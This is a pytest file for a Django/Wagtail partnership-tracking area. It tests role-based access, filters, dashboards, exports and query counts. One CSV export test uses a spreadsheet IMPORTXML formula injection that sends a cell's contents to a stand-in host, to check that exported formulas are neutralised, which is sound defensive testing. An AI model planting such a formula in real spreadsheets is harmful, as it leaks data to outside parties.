"""The committee's area from the outside: who may open it, filters, dashboard, exports,
history on the site, and a constant number of queries."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from partnerships.history import recorded_by
from partnerships.models import Contribution, Partnership
from partnerships.views import RECORDS_PER_PAGE

from .conftest import make_partnership

SECRETS = [
    "Négociation confidentielle",
    "camille.secret@boulangerie.example",
    "Mécénat de compétences",
]


def area(tree):
    return tree.partnerships.url


def record_url(tree, record):
    return f"{area(tree)}{record.pk}/"


@pytest.mark.parametrize("role, status", [("anonymous", 302), ("member", 403), ("editor", 403)])
def test_only_the_committee_opens_the_area(tree, record, role_clients, role, status):
    client = role_clients[role]
    for url in [area(tree), record_url(tree, record), area(tree) + "tableau-de-bord/"]:
        response = client.get(url)
        assert response.status_code == status, url
        html = response.content.decode()
        for secret in SECRETS:
            assert secret not in html


@pytest.mark.parametrize("role", ["member", "editor", "anonymous"])
def test_admin_routes_refuse_everyone_but_the_committee(record, role_clients, role):
    client = role_clients[role]
    for url in [
        reverse("wagtailsnippets_partnerships_partnership:list"),
        reverse("wagtailsnippets_partnerships_partnership:edit", args=[record.pk]),
        reverse("wagtailsnippets_partnerships_organisation:list"),
        reverse("partnership_history", args=[record.pk]),
        reverse("partnerships_report") + "?export=csv",
        reverse("wagtailsnippetchoosers_partnerships_partnership:choose"),
        reverse("wagtailsnippetchoosers_partnerships_organisation:choose"),
    ]:
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"camille.secret" not in response.content


def test_committee_reads_list_record_and_history(tree, record, committee_client, committee_user):
    html = committee_client.get(area(tree)).content.decode()
    assert "Mécénat de compétences" in html and "Boulangerie du Pont" in html
    html = committee_client.get(record_url(tree, record)).content.decode()
    assert "camille.secret@boulangerie.example" in html
    assert "Historique" in html and "Pains invendus" in html


def titles(html):
    return re.findall(r'<td><a href="[^"]+/\d+/">([^<]+)</a>', html)


def test_filters(tree, committee_client, committee_user, record):
    today = timezone.localdate()
    make_partnership(
        title="Navette solidaire",
        kind="economic",
        stage="running",
        stage_reason="reprise",
        territory="Sarrebourg",
        next_step_due=today - timedelta(days=3),
    )
    make_partnership(
        title="Terminé en retard",
        kind="economic",
        stage="ended",
        stage_reason="reprise",
        next_step_due=today - timedelta(days=3),
    )
    cases = {
        "kind=economic": ["Navette solidaire", "Terminé en retard"],
        "stage=idea": ["Mécénat de compétences"],
        "territory=Sarrebourg": ["Navette solidaire"],
        f"owner={committee_user.pk}": ["Mécénat de compétences"],
        "overdue=1": ["Navette solidaire"],  # an ended record is not overdue
    }
    for query, expected in cases.items():
        assert titles(committee_client.get(f"{area(tree)}?{query}").content.decode()) == expected


def test_stage_change_on_the_site_is_in_the_history(tree, record, committee_client, committee_user):
    url = record_url(tree, record)
    response = committee_client.post(
        url, {"stage": "ended", "stage_reason": "", "next_step": "", "next_step_due": ""}
    )
    assert "saute des étapes" in response.content.decode()
    record.refresh_from_db()
    assert record.stage == "idea"
    response = committee_client.post(
        url,
        {"stage": "contact", "stage_reason": "", "next_step": "Appeler", "next_step_due": ""},
        follow=True,
    )
    html = response.content.decode()
    assert "Premier contact" in html
    assert html.count("Le partenariat est mis à jour.") == 1  # base.html shows the messages
    history = html.split("Historique")[-1]
    assert 'history-before">idée</td><td class="history-after">premier contact' in history
    assert record.history.first().history_user == committee_user


def test_dashboard_figures(tree, committee_client, record, company):
    today = timezone.localdate()
    make_partnership(
        title="B",
        kind="economic",
        stage="running",
        stage_reason="x",
        next_step_due=today + timedelta(days=10),
        next_step="Bilan",
    )
    late = make_partnership(
        title="C",
        kind="economic",
        stage="negotiation",
        stage_reason="x",
        next_step_due=today - timedelta(days=1),
        next_step="Relancer",
    )
    Contribution.objects.create(
        partnership=late, kind="money", description="Don", amount=3000, from_organisation=company
    )
    from partnerships.listing import dashboard

    figures = dashboard(today)
    by_stage = {row["label"]: row["value"] for row in figures["by_stage"]}
    assert by_stage["idée"] == 1 and by_stage["en cours"] == 1 and by_stage["négociation"] == 1
    by_kind = {row["label"]: row["value"] for row in figures["by_kind"]}
    assert by_kind["coopération économique"] == 2
    money = {row["label"]: row["value"] for row in figures["contributions"]}
    assert money["argent"] == 3000 and money["en nature"] == 1200
    assert [p.title for p in figures["due_soon"]] == ["B"]
    assert [p.title for p in figures["overdue"]] == ["C"]
    html = committee_client.get(area(tree) + "tableau-de-bord/").content.decode()
    assert "Relancer" in html and "Bilan" in html


def test_exports_parse_back(committee_client, record):
    url = reverse("partnerships_report")
    response = committee_client.get(url + "?export=csv&stage=idea")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][0] == "Titre"
    assert rows[1][0] == "Mécénat de compétences"
    assert "Boulangerie du Pont" in rows[1]
    response = committee_client.get(url + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.cell(row=2, column=1).value == "Mécénat de compétences"
    empty = committee_client.get(url + "?export=csv&stage=ended")
    assert (
        len(list(csv.reader(io.StringIO(b"".join(empty.streaming_content).decode("utf-8-sig")))))
        == 1
    )


def test_csv_export_writes_formulas_as_text_and_numbers_as_numbers(committee_client, record):
    record.title = '=IMPORTXML(CONCAT("http://x.test/?";A3);"//a")'
    record.next_step = "-relancer"
    record.save()
    response = committee_client.get(reverse("partnerships_report") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Titre"] == "'" + record.title
    assert row["Prochaine étape"] == "'-relancer"
    assert row["Apports (€)"] in ("1200", "1200.00")  # a number: no prefix


@pytest.mark.parametrize("count", [10, 500])
def test_list_queries_do_not_grow(
    tree, committee_client, company, count, django_assert_max_num_queries
):
    with recorded_by(None):
        records = Partnership.objects.bulk_create(
            [Partnership(title=f"P{n:03}", kind="patronage", stage="idea") for n in range(count)]
        )
    through = Partnership.company_partners.through
    through.objects.bulk_create([through(partnership=r, organisation=company) for r in records])
    committee_client.get(area(tree))
    # Committee members may open the admin: Wagtail's user bar costs them 6 queries;
    # records, three kinds of partners, filters (territories, owners) and sub-pages: 26.
    with django_assert_max_num_queries(26):
        response = committee_client.get(area(tree))
    html = response.content.decode()
    assert len(titles(html)) == min(count, RECORDS_PER_PAGE)
    assert f"{count} partenariats" in html


def test_the_list_comes_page_by_page_with_its_filters(tree, committee_client, company):
    with recorded_by(None):
        Partnership.objects.bulk_create(
            [
                Partnership(title=f"P{n:03}", kind="patronage", stage="idea", territory="Sarre")
                for n in range(120)
            ]
        )
    html = committee_client.get(area(tree), {"territory": "Sarre"}).content.decode()
    assert titles(html)[0] == "P000" and len(titles(html)) == RECORDS_PER_PAGE
    assert "Page 1 sur 3" in html
    assert 'href="?territory=Sarre&amp;page=2" rel="next"' in html
    last = committee_client.get(area(tree), {"territory": "Sarre", "page": 3}).content.decode()
    assert titles(last) == [f"P{n:03}" for n in range(100, 120)]


@pytest.mark.parametrize("role", ["anonymous", "member", "editor", "committee"])
def test_site_search_shows_records_to_the_committee_only(record, role_clients, role):
    html = role_clients[role].get("/fr/recherche/?q=Mécénat").content.decode()
    assert ("Mécénat de compétences" in html) == (role == "committee")


def test_committee_uses_the_admin_list_and_chooser(record, committee_client):
    for url in [
        reverse("wagtailsnippets_partnerships_partnership:list"),
        reverse("wagtailsnippetchoosers_partnerships_partnership:choose"),
        reverse("partnership_history", args=[record.pk]),
    ]:
        response = committee_client.get(url)
        assert response.status_code == 200, url
        is_json = response["Content-Type"] == "application/json"
        html = response.json()["html"] if is_json else response.content.decode()
        assert "Mécénat de compétences" in html
